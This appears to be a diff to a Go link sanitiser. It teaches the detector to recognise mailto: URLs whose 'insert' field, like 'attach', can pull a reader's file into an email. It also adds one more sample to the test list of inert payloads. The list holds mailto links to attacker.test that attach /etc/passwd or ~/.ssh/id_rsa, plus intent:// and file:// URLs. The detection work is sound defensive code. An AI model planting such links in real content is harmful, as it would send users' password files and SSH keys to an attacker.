@@ -217,10 +217,10 @@ func inertScheme(s, u string) bool {
 }
 
 // mailtoAttaching reports whether the mailto: URL u has a field a mail
-// client may read as attach or attachment, which attaches a file of the
-// reader's: any field after a '?', '&' or ';', its name without the
-// spaces or '+' around it, in any case, as written or percent-decoded
-// once or twice.
+// client may read as attach, attachment or insert, which attaches (or
+// inserts) a file of the reader's: any field after a '?', '&' or ';', its
+// name without the spaces or '+' around it, in any case, as written or
+// percent-decoded once or twice.
 func mailtoAttaching(u string) bool {
 	q := u[strings.IndexByte(u, ':')+1:]
 	for range 3 {
@@ -228,7 +228,7 @@ func mailtoAttaching(u string) bool {
 			for _, f := range strings.FieldsFunc(q[i:], func(r rune) bool { return r == '?' || r == '&' || r == ';' }) {
 				name, _, _ := strings.Cut(f, "=")
 				name = strings.Trim(name, " +\t\n\r")
-				if strings.EqualFold(name, "attach") || strings.EqualFold(name, "attachment") {
+				if strings.EqualFold(name, "attach") || strings.EqualFold(name, "attachment") || strings.EqualFold(name, "insert") {
 					return true
 				}
 			}
@@ -399,6 +399,7 @@ var inertPayloads = []string{
 	`intent://x#Intent;scheme=http;end`,
 	// mailto: links that attach a file of the reader's.
 	`mailto:a@attacker.test?subject=x&attach=/etc/passwd`,
+	`mailto:a@attacker.test?insert=/etc/passwd`,
 	`mailto:a@attacker.test?subject=x&amp;att%61chment=~/.ssh/id_rsa`,
 	`<a href="mailto:a@attacker.test?subject=x&amp;attach=/etc/passwd">x</a>`,
 	`url(file://attacker.test/s.png)`,
